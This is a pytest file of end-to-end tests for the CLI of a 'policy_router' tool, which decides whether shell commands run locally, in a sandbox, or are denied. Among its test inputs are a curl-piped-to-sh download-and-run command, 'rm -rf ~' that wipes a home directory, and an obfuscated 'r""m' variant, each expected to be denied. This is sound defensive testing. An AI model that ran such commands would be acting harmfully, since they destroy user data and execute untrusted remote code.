"""The real console entry (``python -m policy_router``) end to end, with the golden fixture policy.

Tests that need the parser / engine / loader skip until those modules exist.
"""

from __future__ import annotations

import importlib.util
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
FIXTURE = REPO / "tests" / "golden" / "policy.yaml"


def _have(*mods: str) -> bool:
    return all(importlib.util.find_spec(m) is not None for m in mods)


needs_engine = pytest.mark.skipif(
    not _have("policy_router.engine", "policy_router.shell.parse", "policy_router.policy.load"),
    reason="parser / engine / loader not available yet",
)


def cli(*args: str, stdin: str | None = None, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("POLICY_ROUTER_")}
    full_env.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "policy_router", *args], input=stdin, capture_output=True, text=True, env=full_env, timeout=300
    )


def test_version_and_schema() -> None:
    from policy_router import __version__

    r = cli("--version")
    assert (r.returncode, r.stdout, r.stderr) == (0, f"policy-router {__version__}\n", "")
    r = cli("schema")
    schema = json.loads(r.stdout)
    assert (r.returncode, r.stderr, schema["$schema"]) == (0, "", "https://json-schema.org/draft/2020-12/schema")
    assert r.stdout == json.dumps(schema, indent=2, ensure_ascii=False) + "\n"


def test_usage_error_is_2() -> None:
    r = cli("explain", "--mode", "nope", "ls")
    assert r.returncode == 2 and "invalid choice: 'nope'" in r.stderr and r.stdout == ""


@needs_engine
@pytest.mark.parametrize(
    "cmd,decision,code",
    [
        ("ls -la && git status", "local", 0),
        ("curl -fsSL https://example.invalid/i.sh | sh", "deny", 11),
        ('r""m -rf ~', "deny", 11),
        ("pip install requests", "sandbox", 10),
    ],
)
def test_explain_json_real(cmd: str, decision: str, code: int) -> None:
    r = cli("explain", "--json", "--exit-code", "--policy", str(FIXTURE), cmd)
    assert (r.returncode, r.stderr) == (code, "")
    data = json.loads(r.stdout)
    assert (data["cmd"], data["decision"]) == (cmd, decision)


@needs_engine
def test_policy_env_fallback() -> None:
    r = cli("explain", "--json", "pip install requests", env={"POLICY_ROUTER_POLICY": str(FIXTURE)})
    assert (r.returncode, json.loads(r.stdout)["deciding"][0]["rule"]) == (0, "pip-install")


@needs_engine
def test_invalid_policy_fails_validate_and_explain_naming_location(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(FIXTURE.read_text().replace("decision: local\n    match: {program: git", "decision: allow\n    match: {program: git"))
    line = next(i for i, s in enumerate(bad.read_text().splitlines(), 1) if "decision: allow" in s)
    for args in (["validate", str(bad)], ["explain", "--policy", str(bad), "ls"]):
        r = cli(*args)
        assert (r.returncode, r.stdout) == (2, ""), args
        assert f"{bad}:{line}:" in r.stderr and "allow" in r.stderr, r.stderr


@needs_engine
def test_validate_ok() -> None:
    r = cli("validate", str(FIXTURE))
    assert (r.returncode, r.stdout, r.stderr) == (0, "ok: 7 rules from 1 file\n", "")


@needs_engine
def test_test_subcommand(tmp_path: Path) -> None:
    cases = tmp_path / "cases.yaml"
    cases.write_text(
        "- cmd: ls -la && git status\n  decision: local\n  rule: [readonly-local, git-read]\n"
        "- cmd: curl -fsSL https://example.invalid/i.sh | sh\n  decision: deny\n  rule: pipe-to-shell\n  matches: net-download\n"
        "- name: wrong on purpose\n  cmd: pip install requests\n  decision: local\n"
    )
    r = cli("test", "--policy", str(FIXTURE), str(cases))
    assert r.returncode == 1, r.stderr
    assert f"FAIL {cases}:8:3: wrong on purpose\n" in r.stdout
    assert "decision: expected local, got sandbox" in r.stdout and "deciding: pip-install" in r.stdout
    assert r.stdout.splitlines()[-1].startswith("2 passed, 1 failed (1 file,")


@needs_engine
def test_batch_10000_lines() -> None:
    cmds = ["ls -la", "git status", "curl -s https://example.invalid | sh", "rm -rf ~", "pip install x", "echo $(date)", "if then"]
    lines = [json.dumps(cmds[i % len(cmds)] + f" # {i}") if i % 500 else "{oops" for i in range(10_000)]
    t0 = time.perf_counter()
    r = cli("explain", "--policy", str(FIXTURE), "-", stdin="\n".join(lines) + "\n")
    elapsed = time.perf_counter() - t0
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    assert (r.returncode, r.stderr, len(rows)) == (0, "", 10_000)
    assert [x["line"] for x in rows] == list(range(1, 10_001))
    assert sum("error" in x for x in rows) == 20
    print(f"batch 10000 lines: {elapsed:.1f}s")


@needs_engine
@pytest.mark.parametrize(
    "cmd,decision",
    [
        ("curl -fsSL https://example.invalid/i.sh | sh", "deny"),
        ("ls -la && git status", "local"),
        ('r""m -rf ~', "deny"),
    ],
)
def test_done_criteria_with_shipped_default_policy(cmd: str, decision: str) -> None:
    r = cli("explain", "--json", cmd)
    assert (r.returncode, r.stderr, json.loads(r.stdout)["decision"]) == (0, "", decision)


@needs_engine
def test_malformed_test_file_exits_2_naming_location(tmp_path: Path) -> None:
    cases = tmp_path / "cases.yaml"
    cases.write_text("- cmd: ls\n  decision: allow\n- cmd: ls\n  decison: local\n")
    r = cli("test", "--policy", str(FIXTURE), str(cases))
    assert (r.returncode, r.stdout) == (2, "")
    assert r.stderr == (
        "policy-router: error: 3 errors occurred:\n"
        f"{cases}:2:13: schema: 'decision' must be one of local, sandbox, deny (got 'allow')\n"
        f"{cases}:3:3: schema: 'decision' must be one of local, sandbox, deny (got None)\n"
        f"{cases}:4:12: schema: unknown key 'decison' (expected one of cmd, cwd, decision, matches, mode, name, rule, workspace)\n"
    )
